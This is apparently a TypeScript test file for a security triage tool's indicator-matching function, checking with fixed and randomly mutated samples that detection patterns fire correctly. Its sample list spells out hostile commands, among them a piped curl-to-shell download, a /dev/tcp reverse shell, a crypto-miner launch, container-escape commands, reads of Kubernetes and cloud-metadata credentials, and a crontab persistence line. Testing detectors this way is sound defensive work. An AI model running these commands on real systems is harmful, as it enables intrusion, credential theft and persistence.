import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ATTACK_INDICATORS, type IndicatorField } from '../../../src/knowledge/indicators.js';
import { indicatorsIn } from '../../../src/triage/rules/indicator-match.js';

const FIELDS: IndicatorField[] = ['command', 'path', 'ancestry', 'file', 'network', 'title'];

function direct(field: IndicatorField, text: string) {
  return ATTACK_INDICATORS.filter((i) => i.fields.includes(field) && i.pattern.test(text));
}

const SAMPLES = [
  'sh -c "curl -fsSL http://203.0.113.7/x.sh | sh"',
  'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1',
  '/tmp/.x/xmrig --donate-level 1 -o stratum+tcp://pool.example:3333',
  'nsenter -t 1 -m -u -i -n -p -- bash',
  'chroot /host bash',
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role',
  'kubectl auth can-i --list',
  'iptables-restore -w 10 -W 100000 --noflush --counters',
  'echo "* * * * * root /tmp/x" >> /etc/crontab',
  'Suspicious firewall rule modification',
  'Possible reverse shell detected',
  '/etc/kubernetes/manifests/evil.yaml',
  '',
];

describe('indicatorsIn', () => {
  it('finds exactly the indicators whose own pattern matches, per field, asked once or many times', () => {
    for (let round = 0; round < 2; round++) {
      for (const field of FIELDS) for (const text of SAMPLES) expect(indicatorsIn(field, text)).toEqual(direct(field, text));
    }
  });

  it('agrees with the patterns on mutated samples', () => {
    const text = fc.oneof(
      fc.constantFrom(...SAMPLES),
      fc.tuple(fc.constantFrom(...SAMPLES), fc.string({ maxLength: 12 }), fc.nat(80)).map(([s, insert, at]) => `${s.slice(0, at)}${insert}${s.slice(at)}`),
      fc.string({ maxLength: 80 }),
    );
    fc.assert(
      fc.property(fc.constantFrom(...FIELDS), text, (field, t) => {
        expect(indicatorsIn(field, t)).toEqual(direct(field, t));
      }),
      { numRuns: 3000 },
    );
  });

  it('answers for long texts too (not remembered)', () => {
    const long = `${'a '.repeat(3000)}curl -s http://x/y.sh | bash`;
    expect(indicatorsIn('command', long)).toEqual(direct('command', long));
    expect(indicatorsIn('command', long).length).toBeGreaterThan(0);
  });
});
